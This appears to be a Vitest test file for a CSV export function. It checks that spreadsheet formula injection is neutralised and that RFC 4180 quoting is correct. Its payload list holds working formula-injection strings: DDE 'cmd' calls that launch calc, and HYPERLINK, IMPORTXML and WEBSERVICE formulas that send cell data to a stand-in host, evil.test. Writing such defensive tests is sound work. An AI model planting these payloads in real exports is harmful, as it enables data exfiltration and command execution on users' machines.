import { describe, expect, it } from 'vitest'
import { csvOf } from '../../src/web/pages/csv.ts'

/** RFC 4180: cells parted by commas, lines by CR LF, quoted cells with doubled quotes inside. */
function parse(text: string): string[][] {
  const rows: string[][] = [[]]
  let cell = ''
  let isQuoted = false
  const end = () => {
    rows.at(-1)?.push(cell)
    cell = ''
  }
  for (let at = 0; at < text.length; at += 1) {
    const one = text.charAt(at)
    if (isQuoted) {
      if (one !== '"') cell += one
      else if (text.charAt(at + 1) === '"') {
        cell += '"'
        at += 1
      } else isQuoted = false
    } else if (one === '"') isQuoted = true
    else if (one === ',') end()
    else if (text.startsWith('\r\n', at)) {
      end()
      rows.push([])
      at += 1
    } else cell += one
  }
  expect(isQuoted, 'a quote is left open').toBe(false)
  expect(rows.pop(), 'the last line ends').toEqual([])
  return rows
}

const columns = [
  { key: 'name', title: 'Name' },
  { key: 'value', title: 'Value', unit: 'mm' },
] as Parameters<typeof csvOf>[0]['columns']
const table = (rows: Parameters<typeof csvOf>[0]['rows']) => parse(csvOf({ columns, rows }))

const payloads = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.test?x="&A1,"press")',
  '=IMPORTXML(CONCAT("http://evil.test/",A1),"//a")',
  '=WEBSERVICE("http://evil.test")',
  '+1+1',
  '+cmd|x!A1',
  '-1+1',
  '-cmd|x!A1',
  "-2+3+cmd|' /C calc'!D2",
  '@SUM(1+1)',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '   @SUM(A1)',
  '\u00a0=1+1',
  '=1+1,=2+2',
  '=1+1"',
  '"=1+1',
  ';=1+1',
  '=1+1\r\n=2+2',
  'two\nlines',
  'two\r\nlines',
  '\ufeff=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '%0A=1+1',
  '-',
]

describe('a table as CSV', () => {
  it('IN-14: makes text of every cell that a spreadsheet could take for a formula, and keeps what it says', () => {
    const rows = table(payloads.map((name, value) => ({ name, value }))).slice(1)
    expect(rows).toHaveLength(payloads.length)
    for (const [index, [cell = '', number]] of rows.entries()) {
      const payload = payloads[index] ?? ''
      expect(cell, payload).toMatch(/^[^=+\-@\t\r]/)
      expect(cell.trimStart(), payload).toMatch(/^[^=+\-@＝＋－＠]/)
      expect([payload, `'${payload}`], payload).toContain(cell)
      expect(number).toBe(String(index))
    }
  })

  it('IN-14: keeps negative numbers as numbers, those in words as well, and quotes commas, quotes and line ends', () => {
    const rows = [
      { name: 'a, b', value: -1.5 },
      { name: 'the "top" tank', value: -0.25 },
      { name: 'line one\r\nline two', value: null },
      { name: '-12.5', value: 0 },
      { name: null, value: 1e-7 },
    ]
    expect(table(rows)).toEqual([
      ['Name', 'Value (mm)'],
      ['a, b', '-1.5'],
      ['the "top" tank', '-0.25'],
      ['line one\r\nline two', ''],
      ['-12.5', '0'],
      ['', '1e-7'],
    ])
    expect(csvOf({ columns, rows }).split('\r\n')[1]).toBe('"a, b",-1.5')
  })

  it('IN-14: makes text of headings and units too', () => {
    const [heading] = parse(csvOf({ columns: [{ key: 'x', title: '=evil()', unit: '=1' }], rows: [] } as never))
    expect(heading).toEqual(["'=evil() (=1)"])
  })
})
